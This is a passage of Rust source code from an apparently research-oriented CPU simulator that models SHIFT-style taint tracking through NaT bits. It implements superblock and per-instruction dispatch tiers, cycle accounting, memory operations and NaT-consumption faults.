    /// The loaded code (read-only).
    pub fn code(&self) -> &[Insn] {
        &self.code
    }

    /// Runs until the guest stops or `max_insns` instructions retire.
    ///
    /// Dispatch is tiered (fastest first; see DESIGN.md §13):
    ///
    /// 1. **Superblock tier** — when per-instruction diagnostics (trace,
    ///    observer, profiler) are off and `ip` starts a pre-decoded block
    ///    whose worst-case length fits every armed budget, whole blocks
    ///    execute back-to-back through the trace-threaded dispatch loop.
    ///    Watchdog fuel, injection countdowns, and the run budget are
    ///    checked once per block — the entry guard proves none can expire
    ///    mid-block, so checking them at boundaries only is exact, not
    ///    approximate.
    /// 2. **Per-instruction hot tier** — the const-generic `HOT` stepper
    ///    with watchdog/injection/trace/observer/profiler tests compiled
    ///    out; used for mid-block entries and budget tails when nothing is
    ///    armed.
    /// 3. **Cold tier** — the fully-checked stepper, used whenever any
    ///    diagnostic or boundary-checked feature is armed.
    ///
    /// A `syscall` exits the current tier with [`StepOut::Recheck`] and the
    /// next iteration re-selects the tier from scratch (the `Os` handler may
    /// have armed anything).
    pub fn run<O: Os>(&mut self, os: &mut O, max_insns: u64) -> Exit {
        let budget = self.stats.instructions.saturating_add(max_insns);
        // One handle for the whole run: `self.blocks` can only be swapped by
        // `flush_superblocks`, which rebuilds identical tables from the same
        // immutable code, so a run never observes a stale decode.
        let prog = std::sync::Arc::clone(&self.blocks);
        loop {
            if self.stats.instructions >= budget {
                return Exit::InsnLimit;
            }
            if self.trace.is_none() && self.obs.is_none() && self.profiler.is_none() {
                match self.run_blocks(os, &prog, budget) {
                    // Side exit: mid-block `ip`, a boundary budget too small
                    // for the next block, or the run budget's tail — step one
                    // instruction and retry block dispatch at the new `ip`.
                    StepOut::Continue => {
                        self.block_misses += 1;
                        let out = if self.watchdog.is_none() && self.injections.is_empty() {
                            self.step_impl::<O, true>(os)
                        } else {
                            self.step_impl::<O, false>(os)
                        };
                        match out {
                            StepOut::Continue | StepOut::Recheck => {}
                            StepOut::Exit(exit) => return exit,
                        }
                    }
                    // A syscall ran; the handler may have armed anything, so
                    // re-select the tier from scratch.
                    StepOut::Recheck => {}
                    StepOut::Exit(exit) => return exit,
                }
            } else {
                match self.step_impl::<O, false>(os) {
                    StepOut::Continue | StepOut::Recheck => {}
                    StepOut::Exit(exit) => return exit,
                }
            }
        }
    }

    /// Executes superblocks back-to-back until a side exit, through the
    /// trace-threaded dispatch loop.
    ///
    /// Architecturally identical to stepping the same instructions one at a
    /// time through `step_impl::<_, true>`: same state updates in the same
    /// order, same fault points with `ip` left on the faulting instruction,
    /// same modelled cycles. The wins are pure host mechanics:
    ///
    /// * no per-instruction fetch bounds check, budget compare, or `ip`
    ///   store — `ip` lives in a local and is written back only on exit;
    /// * retire accounting lands in stack-local accumulators that persist
    ///   *across* chained blocks and flush only on a side exit. Per-op
    ///   accounting is gone entirely: every block merges its precomputed
    ///   full-pass [`crate::block::ProvAcct`] entries at completion, and
    ///   the execution loop records only *deviations* from that full pass
    ///   (cache stalls, predicated-off slots, taken `chk.s`). Early exits
    ///   settle the entered prefix from the micro-ops' static base costs;
    /// * watchdog fuel, injection countdowns, and the run budget are
    ///   checked once per block — the entry guard proves none can expire
    ///   mid-block (see below), so boundary-only checks are exact.
    ///
    /// The entry guard: with the watchdog at `used` of `budget` fuel and
    /// `pending` locally-retired instructions not yet flushed, the
    /// per-instruction stepper would trip before instruction `i` of the next
    /// block iff `used + pending + i >= budget`, so a full block of `len` is
    /// safe iff `used + pending + len <= budget`; the same argument bounds
    /// injection countdowns (an event fires when its countdown hits zero
    /// *before* an instruction) and the run budget.
    ///
    /// Returns [`StepOut::Continue`] on a side exit (mid-block `ip`, guard
    /// failure, budget tail — the caller steps one instruction and retries),
    /// [`StepOut::Recheck`] after a syscall, or [`StepOut::Exit`].
    fn run_blocks<O: Os>(&mut self, os: &mut O, prog: &BlockProgram, budget: u64) -> StepOut {
        let mut cyc = [0u64; NPROV];
        let mut ins = [0u64; NPROV];
        // Instructions retired into the local accumulators but not yet
        // flushed (== the sums of `ins`): completed blocks retire every
        // entered micro-op exactly once, including predicated-off slots.
        let mut pending = 0u64;
        let mut ip = self.cpu.ip;

        // Flushes the accumulators into `Stats` and charges boundary fuel:
        // the watchdog consumes one unit and every injection countdown
        // decreases by one per retired instruction, exactly as the
        // per-instruction stepper would have charged them one at a time.
        // Runs *before* any `Os` handler or caller can observe the machine,
        // so a syscall sees stats, fuel, and countdowns in the same state
        // the per-instruction path would show it.
        macro_rules! flush {
            () => {{
                let mut cycles = 0u64;
                let mut insns = 0u64;
                for i in 0..NPROV {
                    self.stats.cycles_by_prov[i] += cyc[i];
                    self.stats.insns_by_prov[i] += ins[i];
                    cycles += cyc[i];
                    insns += ins[i];
                }
                self.stats.cycles += cycles;
                self.stats.instructions += insns;
                if let Some(w) = &mut self.watchdog {
                    w.used += insns;
                }
                if !self.injections.is_empty() {
                    for (countdown, _) in &mut self.injections {
                        debug_assert!(
                            *countdown >= insns,
                            "entry guard must prevent mid-block fire"
                        );
                        *countdown -= insns;
                    }
                }
            }};
        }
        // Merges a block's precomputed full-pass accounting entries into the
        // local accumulators (one sparse entry per provenance present).
        // Wrapping: the accumulators may hold transiently "negative"
        // deviations (see `dev!`) until this merge rebalances them.
        macro_rules! merge_accts {
            ($blk:expr) => {{
                let accts = &prog.accts
                    [$blk.acct_start as usize..($blk.acct_start + $blk.acct_len) as usize];
                for a in accts {
                    let i = usize::from(a.prov);
                    cyc[i] = cyc[i].wrapping_add(u64::from(a.cycles));
                    ins[i] += u64::from(a.insns);
                }
            }};
        }
        // Records a cycle *deviation* from the block's precomputed full-pass
        // accounting: a cache stall, a predicated-off slot, a taken `chk.s`.
        // Wrapping because a deviation can be negative (`pred_off - base`);
        // the block's base entries always merge in before any flush, which
        // restores an exact non-negative total.
        macro_rules! dev {
            ($prov:expr, $delta:expr) => {{
                let i = $prov.index();
                cyc[i] = cyc[i].wrapping_add($delta);
            }};
        }
        // Settles accounting for a partially-executed block: micro-ops
        // `..=$j` all entered, so charge each its static base cost and one
        // retired instruction. Dynamic deviations (stalls, pred-off slots)
        // were already recorded by `dev!` as they happened, so base + recorded
        // deviations reproduces the per-instruction charges exactly.
        macro_rules! settle {
            ($uops:expr, $j:expr) => {{
                for u in &$uops[..=$j] {
                    let i = u.prov.index();
                    cyc[i] = cyc[i].wrapping_add(u64::from(u.base));
                    ins[i] += 1;
                }
            }};
        }
        // Stops mid-block at instruction `ip`: flush, leave `ip` exactly
        // where the per-instruction stepper would have left it.
        macro_rules! exit_at {
            ($ip:expr, $e:expr) => {{
                flush!();
                self.cpu.ip = $ip;
                return StepOut::Exit($e);
            }};
        }
        macro_rules! fault_at {
            ($uops:expr, $j:expr, $ip:expr, $f:expr) => {{
                settle!($uops, $j);
                exit_at!($ip, Exit::Fault($f))
            }};
        }

        loop {
            let Some(bid) = prog.block_starting_at(ip) else {
                flush!();
                self.cpu.ip = ip;
                return StepOut::Continue;
            };
            let blk = &prog.blocks[bid as usize];
            let len = u64::from(blk.len);
            let horizon = pending + len;
            let guarded = self.stats.instructions + horizon > budget
                || self.watchdog.as_ref().is_some_and(|w| w.used + horizon > w.budget)
                || !self.injections.iter().all(|(countdown, _)| *countdown >= horizon);
            if guarded {
                flush!();
                self.cpu.ip = ip;
                return StepOut::Continue;
            }
            self.block_hits += 1;
            let base_ip = ip;
            let first = blk.uop_start as usize;
            let uops = &prog.uops[first..first + blk.len as usize];
            let mut next_ip = base_ip + uops.len();

            if blk.pure {
                // Static-accounting fast path: no predication, no faults, no
                // dynamic cycle costs — semantics only, then a sparse merge
                // of the block's precomputed per-provenance totals.
                for u in uops {
                    match u.op {
                        Op::Alu { op, dst, src1, src2 } => {
                            let a = self.cpu.gpr(src1);
                            let b = self.cpu.gpr(src2);
                            let v = alu(op, a.value, b.value);
                            let self_cancel = src1 == src2 && matches!(op, AluOp::Xor | AluOp::Sub);
                            let nat = if self_cancel { false } else { a.nat || b.nat };
                            self.cpu.set_gpr(dst, RegVal { value: v, nat });
                        }
                        Op::AluI { op, dst, src1, imm } => {
                            let a = self.cpu.gpr(src1);
                            let v = alu(op, a.value, imm as u64);
                            self.cpu.set_gpr(dst, RegVal { value: v, nat: a.nat });
                        }
                        Op::MovI { dst, imm } => self.cpu.set_gpr_val(dst, imm as u64),
                        Op::Mov { dst, src } => {
                            let v = self.cpu.gpr(src);
                            self.cpu.set_gpr(dst, v);
                        }
                        Op::Ext { kind, size, dst, src } => {
                            let a = self.cpu.gpr(src);
                            let v = extend(kind, size, a.value);
                            self.cpu.set_gpr(dst, RegVal { value: v, nat: a.nat });
                        }
                        Op::Cmp { rel, pt, pf, src1, src2, nat_aware } => {
                            let a = self.cpu.gpr(src1);
                            let b = self.cpu.gpr(src2);
                            self.do_cmp(rel, pt, pf, a, b, nat_aware);
                        }
                        Op::CmpI { rel, pt, pf, src1, imm, nat_aware } => {
                            let a = self.cpu.gpr(src1);
                            self.do_cmp(rel, pt, pf, a, RegVal::of(imm as u64), nat_aware);
                        }
                        Op::Tnat { pt, pf, src } => {
                            let nat = self.cpu.gpr(src).nat;
                            self.cpu.set_pr(pt, nat);
                            self.cpu.set_pr(pf, !nat);
                        }
                        Op::Tset { dst } => {
                            let v = self.cpu.gpr(dst);
                            self.cpu.set_gpr(dst, RegVal { value: v.value, nat: true });
                        }
                        Op::Tclr { dst } => {
                            let v = self.cpu.gpr(dst);
                            self.cpu.set_gpr(dst, RegVal::of(v.value));
                        }
                        Op::MovFromBr { dst, br } => {
                            let v = self.cpu.br(br);
                            self.cpu.set_gpr_val(dst, v);
                        }
                        Op::Nop => {}
                        // Terminators (always the last micro-op).
                        Op::Jmp { target } => next_ip = target,
                        Op::Call { link, target } => {
                            self.cpu.set_br(link, (base_ip + uops.len()) as u64);
                            next_ip = target;
                        }
                        Op::JmpBr { br } => next_ip = self.cpu.br(br) as usize,
                        // Excluded from pure blocks by construction.
                        Op::Ld { .. }
                        | Op::St { .. }
                        | Op::StSpill { .. }
                        | Op::LdFill { .. }
                        | Op::ChkS { .. }
                        | Op::MovToBr { .. }
                        | Op::Syscall { .. }
                        | Op::Halt => unreachable!("impure op in pure superblock"),
                    }
                }
                merge_accts!(blk);
                pending += len;
                ip = next_ip;
                continue;
            }

            for (j, u) in uops.iter().enumerate() {
                if !self.cpu.pr(u.qp) {
                    dev!(u.prov, self.cost.pred_off.wrapping_sub(u64::from(u.base)));
                    continue;
                }
                let ip = base_ip + j;
                match u.op {
                    Op::Alu { op, dst, src1, src2 } => {
                        let a = self.cpu.gpr(src1);
                        let b = self.cpu.gpr(src2);
                        let v = alu(op, a.value, b.value);
                        let self_cancel = src1 == src2 && matches!(op, AluOp::Xor | AluOp::Sub);
                        let nat = if self_cancel { false } else { a.nat || b.nat };
                        self.cpu.set_gpr(dst, RegVal { value: v, nat });
                    }
                    Op::AluI { op, dst, src1, imm } => {
                        let a = self.cpu.gpr(src1);
                        let v = alu(op, a.value, imm as u64);
                        self.cpu.set_gpr(dst, RegVal { value: v, nat: a.nat });
                    }
                    Op::MovI { dst, imm } => self.cpu.set_gpr_val(dst, imm as u64),
                    Op::Mov { dst, src } => {
                        let v = self.cpu.gpr(src);
                        self.cpu.set_gpr(dst, v);
                    }
                    Op::Ext { kind, size, dst, src } => {
                        let a = self.cpu.gpr(src);
                        let v = extend(kind, size, a.value);
                        self.cpu.set_gpr(dst, RegVal { value: v, nat: a.nat });
                    }
                    Op::Cmp { rel, pt, pf, src1, src2, nat_aware } => {
                        let a = self.cpu.gpr(src1);
                        let b = self.cpu.gpr(src2);
                        self.do_cmp(rel, pt, pf, a, b, nat_aware);
                    }
                    Op::CmpI { rel, pt, pf, src1, imm, nat_aware } => {
                        let a = self.cpu.gpr(src1);
                        self.do_cmp(rel, pt, pf, a, RegVal::of(imm as u64), nat_aware);
                    }
                    Op::Ld { size, ext, dst, addr, spec } => {
                        let a = self.cpu.gpr(addr);
                        if a.nat {
                            if spec {
                                self.stats.deferred_loads += 1;
                                self.cpu.set_gpr(dst, RegVal::NAT);
                            } else {
                                fault_at!(
                                    uops,
                                    j,
                                    ip,
                                    Fault::NatConsumption { kind: NatFaultKind::LoadAddress, ip }
                                );
                            }
                        } else {
                            match self.mem.read_int(a.value, size.bytes()) {
                                Ok(raw) => {
                                    dev!(u.prov, self.cache.access(a.value, size.bytes()));
                                    let v = extend(ext, size, raw);
                                    self.cpu.set_gpr(dst, RegVal::of(v));
                                    if u.prov == Provenance::Original {
                                        self.stats.loads += 1;
                                    }
                                }
                                Err(_) if spec => {
                                    dev!(u.prov, self.cache.mem_latency);
                                    self.stats.deferred_loads += 1;
                                    self.cpu.set_gpr(dst, RegVal::NAT);
                                }
                                Err(e) => fault_at!(uops, j, ip, mem_fault(e, ip)),
                            }
                        }
                    }
                    Op::St { size, src, addr } => {
                        let a = self.cpu.gpr(addr);
                        let v = self.cpu.gpr(src);
                        if a.nat {
                            fault_at!(
                                uops,
                                j,
                                ip,
                                Fault::NatConsumption { kind: NatFaultKind::StoreAddress, ip }
                            );
                        }
                        if v.nat {
                            fault_at!(
                                uops,
                                j,
                                ip,
                                Fault::NatConsumption { kind: NatFaultKind::StoreValue, ip }
                            );
                        }
                        match self.mem.write_int(a.value, size.bytes(), v.value) {
                            Ok(()) => {
                                dev!(u.prov, self.cache.access(a.value, size.bytes()));
                                if u.prov == Provenance::Original {
                                    self.stats.stores += 1;
                                }
                            }
                            Err(e) => fault_at!(uops, j, ip, mem_fault(e, ip)),
                        }
                    }
                    Op::StSpill { src, addr } => {
                        let a = self.cpu.gpr(addr);
                        let v = self.cpu.gpr(src);
                        if a.nat {
                            fault_at!(
                                uops,
                                j,
                                ip,
                                Fault::NatConsumption { kind: NatFaultKind::StoreAddress, ip }
                            );
                        }
                        match self.mem.write_int(a.value, 8, v.value) {
                            Ok(()) => {
                                dev!(u.prov, self.cache.access(a.value, 8));
                                self.cpu.unat = set_unat_bit(self.cpu.unat, a.value, v.nat);
                                self.mem.set_spill_nat(a.value, v.nat);
                                if u.prov == Provenance::Original {
                                    self.stats.stores += 1;
                                }
                            }
                            Err(e) => fault_at!(uops, j, ip, mem_fault(e, ip)),
                        }
                    }
                    Op::LdFill { dst, addr } => {
                        let a = self.cpu.gpr(addr);
                        if a.nat {
                            fault_at!(
                                uops,
                                j,
                                ip,
                                Fault::NatConsumption { kind: NatFaultKind::LoadAddress, ip }
                            );
                        }
                        match self.mem.read_int(a.value, 8) {
                            Ok(raw) => {
                                dev!(u.prov, self.cache.access(a.value, 8));
                                let nat = self.mem.spill_nat(a.value);
                                self.cpu.set_gpr(dst, RegVal { value: raw, nat });
                                if u.prov == Provenance::Original {
                                    self.stats.loads += 1;
                                }
                            }
                            Err(e) => fault_at!(uops, j, ip, mem_fault(e, ip)),
                        }
                    }
                    Op::MovToBr { br, src } => {
                        let v = self.cpu.gpr(src);
                        if v.nat {
                            fault_at!(
                                uops,
                                j,
                                ip,
                                Fault::NatConsumption { kind: NatFaultKind::BranchMove, ip }
                            );
                        }
                        self.cpu.set_br(br, v.value);
                    }
                    Op::Tnat { pt, pf, src } => {
                        let nat = self.cpu.gpr(src).nat;
                        self.cpu.set_pr(pt, nat);
                        self.cpu.set_pr(pf, !nat);
                    }
                    Op::Tset { dst } => {
                        let v = self.cpu.gpr(dst);
                        self.cpu.set_gpr(dst, RegVal { value: v.value, nat: true });
                    }
                    Op::Tclr { dst } => {
                        let v = self.cpu.gpr(dst);
                        self.cpu.set_gpr(dst, RegVal::of(v.value));
                    }
                    Op::MovFromBr { dst, br } => {
                        let v = self.cpu.br(br);
                        self.cpu.set_gpr_val(dst, v);
                    }
                    Op::Nop => {}
                    // Terminators (always the last micro-op of a block).
                    // Unconditional transfers carry `branch_taken` in
                    // `u.base` already (folded at decode time).
                    Op::ChkS { src, target } => {
                        if self.cpu.gpr(src).nat {
                            dev!(u.prov, self.cost.chk_set.wrapping_sub(u64::from(u.base)));
                            self.stats.chk_taken += 1;
                            next_ip = target;
                        }
                    }
                    Op::Jmp { target } => next_ip = target,
                    Op::Call { link, target } => {
                        self.cpu.set_br(link, (ip + 1) as u64);
                        next_ip = target;
                    }
                    Op::JmpBr { br } => next_ip = self.cpu.br(br) as usize,
                    Op::Syscall { num } => {
                        self.stats.syscalls += 1;
                        settle!(uops, j);
                        // Flush *before* the handler runs: the `Os` gets
                        // `&mut Machine` and must see stats, fuel, and
                        // countdowns exactly as the per-instruction path
                        // would show them.
                        flush!();
                        self.cpu.ip = ip + 1;
                        return match os.syscall(self, num) {
                            SysResult::Continue => StepOut::Recheck,
                            SysResult::Stop(exit) => StepOut::Exit(exit),
                        };
                    }
                    Op::Halt => {
                        settle!(uops, j);
                        flush!();
                        self.cpu.ip = ip;
                        return StepOut::Exit(Exit::Halted(
                            self.cpu.gpr(shift_isa::Gpr::RET).value as i64,
                        ));
                    }
                }
            }

            merge_accts!(blk);
            pending += len;
            ip = next_ip;
        }
    }

    /// Runs like [`Machine::run`] but with the superblock tier disabled:
    /// every instruction goes through the per-instruction stepper.
    ///
    /// Exists solely as the control arm for dispatch benchmarks (the host is
    /// too noisy for cross-process comparisons, so the microbench runs both
    /// tiers in-process and interleaved). Architecturally identical to
    /// `run` — same exits, same stats, same modelled cycles — just slower
    /// on the host. Not part of the supported API.
    #[doc(hidden)]
    pub fn run_per_insn<O: Os>(&mut self, os: &mut O, max_insns: u64) -> Exit {
        let budget = self.stats.instructions.saturating_add(max_insns);
        loop {
            if self.stats.instructions >= budget {
                return Exit::InsnLimit;
            }
            let hot = self.trace.is_none()
                && self.obs.is_none()
                && self.profiler.is_none()
                && self.watchdog.is_none()
                && self.injections.is_empty();
            let out =
                if hot { self.step_impl::<O, true>(os) } else { self.step_impl::<O, false>(os) };
            match out {
                StepOut::Continue | StepOut::Recheck => {}
                StepOut::Exit(exit) => return exit,
            }
        }
    }

    /// Drops and rebuilds the superblock tables from the (immutable) code.
    ///
    /// Guest code cannot change under this simulator — `code` is a shared
    /// `Arc<[Insn]>` and the ISA has no code store — so nothing *requires*
    /// invalidation today; this is the hook a future embedder with mutable
    /// code would call, and the regression suite uses it to prove a flushed
    /// machine re-decodes to bit-identical behaviour.
    pub fn flush_superblocks(&mut self) {
        self.blocks = std::sync::Arc::new(BlockProgram::build(&self.code, &self.cost));
        self.block_flushes += 1;
        let now = self.stats.total_time();
        let blocks = self.blocks.block_count() as u64;
        if let Some(fr) = self.flight.as_deref_mut() {
            fr.instant(now, TraceKind::SuperblockFlush { blocks });
        }
    }

    /// Host-side superblock dispatch counters (see [`SuperblockStats`]).
    ///
    /// ```
    /// use shift_isa::{Gpr, Insn, Op};
    /// use shift_machine::{Image, Machine, NullOs};
    ///
    /// let image = Image::builder()
    ///     .code(vec![Insn::new(Op::MovI { dst: Gpr::R8, imm: 0 }), Insn::new(Op::Halt)])
    ///     .build();
    /// let mut m = Machine::new(&image);
    /// m.run(&mut NullOs, 1_000);
    /// let sb = m.superblock_stats();
    /// assert!(sb.blocks >= 1 && sb.hits >= 1);
    /// ```
    pub fn superblock_stats(&self) -> SuperblockStats {
        SuperblockStats {
            hits: self.block_hits,
            misses: self.block_misses,
            flushes: self.block_flushes,
            blocks: self.blocks.block_count() as u64,
        }
    }

    /// Executes one instruction; returns `Some(exit)` when the run stops.
    ///
    /// Stopping is never destructive: the machine can keep stepping after
    /// any exit (the runtime restores a snapshot first when the exit left
    /// `ip` at a faulting instruction).
    pub fn step<O: Os>(&mut self, os: &mut O) -> Option<Exit> {
        match self.step_impl::<O, false>(os) {
            StepOut::Exit(exit) => Some(exit),
            StepOut::Continue | StepOut::Recheck => None,
        }
    }

    /// The taint observer, only on the checked (non-hot) path.
    ///
    /// `HOT` is only ever true when [`Machine::run`] has verified the
    /// observer is disabled, so the hot monomorphization folds every
    /// observer hook to nothing at compile time.
    #[inline(always)]
    fn obs_if<const HOT: bool>(&mut self) -> Option<&mut TaintObserver> {
        if HOT {
            None
        } else {
            self.obs.as_deref_mut()
        }
    }

    /// The profiler, only on the checked (non-hot) path — same contract as
    /// [`Machine::obs_if`].
    #[inline(always)]
    fn profiler_if<const HOT: bool>(&mut self) -> Option<&mut Profiler> {
        if HOT {
            None
        } else {
            self.profiler.as_deref_mut()
        }
    }

    /// Retires one instruction without the profiler test on the hot path
    /// (`run` guarantees the profiler is disabled there).
    #[inline(always)]
    fn retire_fast<const HOT: bool>(&mut self, ip: usize, prov: Provenance, cycles: u64) {
        self.stats.retire(prov, cycles);
        if !HOT {
            if let Some(p) = &mut self.profiler {
                p.record(ip, prov, cycles);
            }
        }
    }

    /// One instruction of the dispatcher, monomorphized twice: `HOT = true`
    /// compiles out the watchdog, injection, trace, observer, and profiler
    /// tests (the run loop guarantees they are disabled), `HOT = false` is
    /// the general path behind [`Machine::step`]. Behaviour is identical —
    /// `HOT` removes tests that would all be false, never changes one.
    #[inline(always)]
    fn step_impl<O: Os, const HOT: bool>(&mut self, os: &mut O) -> StepOut {
        if !HOT {
            if let Some(w) = &mut self.watchdog {
                if w.used >= w.budget {
                    return StepOut::Exit(Exit::FuelExhausted);
                }
                w.used += 1;
            }
            if !self.injections.is_empty() {
                if let Some(exit) = self.apply_due_injections() {
                    return StepOut::Exit(exit);
                }
            }
        }
        let ip = self.cpu.ip;
        let Some(&insn) = self.code.get(ip) else {
            return StepOut::Exit(Exit::Fault(Fault::BadIp { ip }));
        };
        if !HOT {
            if let Some(trace) = &mut self.trace {
                trace.push_back(ip);
                if trace.len() > self.trace_cap {
                    trace.pop_front();
                }
            }
        }

        // Predicated-off instructions are squashed; on the 6-wide machine
        // their slot is effectively free (see CostModel::pred_off).
        if !self.cpu.pr(insn.qp) {
            self.retire_fast::<HOT>(ip, insn.prov, self.cost.pred_off);
            self.cpu.ip = ip + 1;
            return StepOut::Continue;
        }

        // Same index as the fetch above, so the bound holds; equals
        // `self.cost.base(&insn.op)` by construction.
        let base = self.base_cost[ip];
        let mut cycles = base;
        let mut next_ip = ip + 1;

        macro_rules! fault {
            ($f:expr) => {{
                self.retire_fast::<HOT>(ip, insn.prov, cycles);
                return StepOut::Exit(Exit::Fault($f));
            }};
        }

        // A NaT-consumption fault *is* the hardware detection; capture the
        // provenance chain for the report before the fault fires.
        macro_rules! nat_fault {
            ($reg:expr, $kind:expr, $desc:expr) => {{
                if let Some(o) = self.obs_if::<HOT>() {
                    o.on_nat_fault($reg, $desc, ip);
                }
                fault!(Fault::NatConsumption { kind: $kind, ip });
            }};
        }

        match insn.op {
            Op::Alu { op, dst, src1, src2 } => {
                let a = self.cpu.gpr(src1);
                let b = self.cpu.gpr(src2);
                let v = alu(op, a.value, b.value);
                // xor r,r,r / sub r,r,r are the architectural clear idioms
                // (§3.2: "SHIFT handles corner cases such as xor r15=r15,r15
                // … by clearing the taint tag").
                let self_cancel = src1 == src2 && matches!(op, AluOp::Xor | AluOp::Sub);
                let nat = if self_cancel { false } else { a.nat || b.nat };
                self.cpu.set_gpr(dst, RegVal { value: v, nat });
                if let Some(o) = self.obs_if::<HOT>() {
                    o.on_alu2(dst, nat, (src1, a.nat), (src2, b.nat));
                }
            }
            Op::AluI { op, dst, src1, imm } => {
                let a = self.cpu.gpr(src1);
                let v = alu(op, a.value, imm as u64);
                self.cpu.set_gpr(dst, RegVal { value: v, nat: a.nat });
                if let Some(o) = self.obs_if::<HOT>() {
                    o.on_alu1(dst, a.nat, src1);
                }
            }
            Op::MovI { dst, imm } => {
                self.cpu.set_gpr_val(dst, imm as u64);
                if let Some(o) = self.obs_if::<HOT>() {
                    o.on_movi(dst);
                }
            }
            Op::Mov { dst, src } => {
                let v = self.cpu.gpr(src);
                self.cpu.set_gpr(dst, v);
                if let Some(o) = self.obs_if::<HOT>() {
                    o.on_mov(dst, src);
                }
            }
            Op::Ext { kind, size, dst, src } => {
                let a = self.cpu.gpr(src);
                let v = extend(kind, size, a.value);
                self.cpu.set_gpr(dst, RegVal { value: v, nat: a.nat });
                if let Some(o) = self.obs_if::<HOT>() {
                    o.on_alu1(dst, a.nat, src);
                }
            }
            Op::Cmp { rel, pt, pf, src1, src2, nat_aware } => {
                let a = self.cpu.gpr(src1);
                let b = self.cpu.gpr(src2);
                self.do_cmp(rel, pt, pf, a, b, nat_aware);
                if let Some(o) = self.obs_if::<HOT>() {
                    o.on_cmp();
                }
            }
            Op::CmpI { rel, pt, pf, src1, imm, nat_aware } => {
                let a = self.cpu.gpr(src1);
                self.do_cmp(rel, pt, pf, a, RegVal::of(imm as u64), nat_aware);
                if let Some(o) = self.obs_if::<HOT>() {
                    o.on_cmp();
                }
            }
            Op::Ld { size, ext, dst, addr, spec } => {
                let a = self.cpu.gpr(addr);
                if a.nat {
                    if spec {
                        // NaT address: deferral propagates to the target
                        // directly (no translation attempted).
                        self.stats.deferred_loads += 1;
                        self.cpu.set_gpr(dst, RegVal::NAT);
                        if let Some(o) = self.obs_if::<HOT>() {
                            if insn.prov == Provenance::Original {
                                o.on_load_deferred(dst);
                            }
                        }
                    } else {
                        nat_fault!(addr, NatFaultKind::LoadAddress, "load address");
                    }
                } else {
                    match self.mem.read_int(a.value, size.bytes()) {
                        Ok(raw) => {
                            cycles += self.cache.access(a.value, size.bytes());
                            let v = extend(ext, size, raw);
                            self.cpu.set_gpr(dst, RegVal::of(v));
                            if insn.prov == Provenance::Original {
                                self.stats.loads += 1;
                            }
                            if let Some(o) = self.obs_if::<HOT>() {
                                // Only data accesses feed the taint trace:
                                // tag-bitmap reads and relax reloads are
                                // instrumentation plumbing.
                                if insn.prov == Provenance::Original {
                                    o.on_load(dst, a.value, size.bytes(), ip);
                                }
                            }
                        }
                        Err(_) if spec => {
                            // Invalid address under speculation: the access
                            // walks the TLB/VHPT, fails translation, and
                            // defers — a full memory-latency stall. This is
                            // why SHIFT generates its NaT-source register
                            // once and keeps it (§4.4: per-function
                            // generation costs 3×).
                            cycles += self.cache.mem_latency;
                            self.stats.deferred_loads += 1;
                            self.cpu.set_gpr(dst, RegVal::NAT);
                            if let Some(o) = self.obs_if::<HOT>() {
                                if insn.prov == Provenance::Original {
                                    o.on_load_deferred(dst);
                                }
                            }
                        }
                        Err(e) => fault!(mem_fault(e, ip)),
                    }
                }
            }
            Op::St { size, src, addr } => {
                let a = self.cpu.gpr(addr);
                let v = self.cpu.gpr(src);
                if a.nat {
                    nat_fault!(addr, NatFaultKind::StoreAddress, "store address");
                }
                if v.nat {
                    nat_fault!(src, NatFaultKind::StoreValue, "store value");
                }
                match self.mem.write_int(a.value, size.bytes(), v.value) {
                    Ok(()) => {
                        cycles += self.cache.access(a.value, size.bytes());
                        if insn.prov == Provenance::Original {
                            self.stats.stores += 1;
                        }
                        if let Some(o) = self.obs_if::<HOT>() {
                            // Tag-bitmap stores must not consume the Tnat
                            // staged for the data store that follows them.
                            if insn.prov == Provenance::Original {
                                o.on_store(a.value, size.bytes(), ip);
                            }
                        }
                    }
                    Err(e) => fault!(mem_fault(e, ip)),
                }
            }
            Op::StSpill { src, addr } => {
                let a = self.cpu.gpr(addr);
                let v = self.cpu.gpr(src);
                if a.nat {
                    nat_fault!(addr, NatFaultKind::StoreAddress, "spill address");
                }
                match self.mem.write_int(a.value, 8, v.value) {
                    Ok(()) => {
                        cycles += self.cache.access(a.value, 8);
                        // Bank the NaT bit (UNAT slot + compiler-managed
                        // UNAT save/restore, modelled as a per-slot bit).
                        self.cpu.unat = set_unat_bit(self.cpu.unat, a.value, v.nat);
                        self.mem.set_spill_nat(a.value, v.nat);
                        if insn.prov == Provenance::Original {
                            self.stats.stores += 1;
                        }
                        if let Some(o) = self.obs_if::<HOT>() {
                            if insn.prov == Provenance::Original {
                                o.on_spill(src, a.value, v.nat, ip);
                            }
                        }
                    }
                    Err(e) => fault!(mem_fault(e, ip)),
                }
            }
            Op::LdFill { dst, addr } => {
                let a = self.cpu.gpr(addr);
                if a.nat {
                    nat_fault!(addr, NatFaultKind::LoadAddress, "fill address");
                }
                match self.mem.read_int(a.value, 8) {
                    Ok(raw) => {
                        cycles += self.cache.access(a.value, 8);
                        let nat = self.mem.spill_nat(a.value);
                        self.cpu.set_gpr(dst, RegVal { value: raw, nat });
                        if insn.prov == Provenance::Original {
                            self.stats.loads += 1;
                        }
                        if let Some(o) = self.obs_if::<HOT>() {
                            if insn.prov == Provenance::Original {
                                o.on_load(dst, a.value, 8, ip);
                            }
                        }
                    }
                    Err(e) => fault!(mem_fault(e, ip)),
                }
            }
            Op::ChkS { src, target } => {
                if self.cpu.gpr(src).nat {
                    cycles = self.cost.chk_set;
                    self.stats.chk_taken += 1;
                    next_ip = target;
                    if let Some(o) = self.obs_if::<HOT>() {
                        o.on_chk_taken(src);
                    }
                }
            }
            Op::Jmp { target } => {
                cycles = self.cost.branch_taken;
                next_ip = target;
            }
            Op::Call { link, target } => {
                cycles = self.cost.branch_taken;
                self.cpu.set_br(link, (ip + 1) as u64);
                next_ip = target;
                if let Some(p) = self.profiler_if::<HOT>() {
                    p.on_call(target, ip + 1);
                }
            }
            Op::JmpBr { br } => {
                cycles = self.cost.branch_taken;
                next_ip = self.cpu.br(br) as usize;
                if let Some(p) = self.profiler_if::<HOT>() {
                    p.on_branch(next_ip);
                }
            }
            Op::MovToBr { br, src } => {
                let v = self.cpu.gpr(src);
                if v.nat {
                    nat_fault!(src, NatFaultKind::BranchMove, "branch move");
                }
                self.cpu.set_br(br, v.value);
            }
            Op::MovFromBr { dst, br } => {
                let v = self.cpu.br(br);
                self.cpu.set_gpr_val(dst, v);
            }
            Op::Tnat { pt, pf, src } => {
                let nat = self.cpu.gpr(src).nat;
                self.cpu.set_pr(pt, nat);
                self.cpu.set_pr(pf, !nat);
                if let Some(o) = self.obs_if::<HOT>() {
                    o.on_tnat(src, nat);
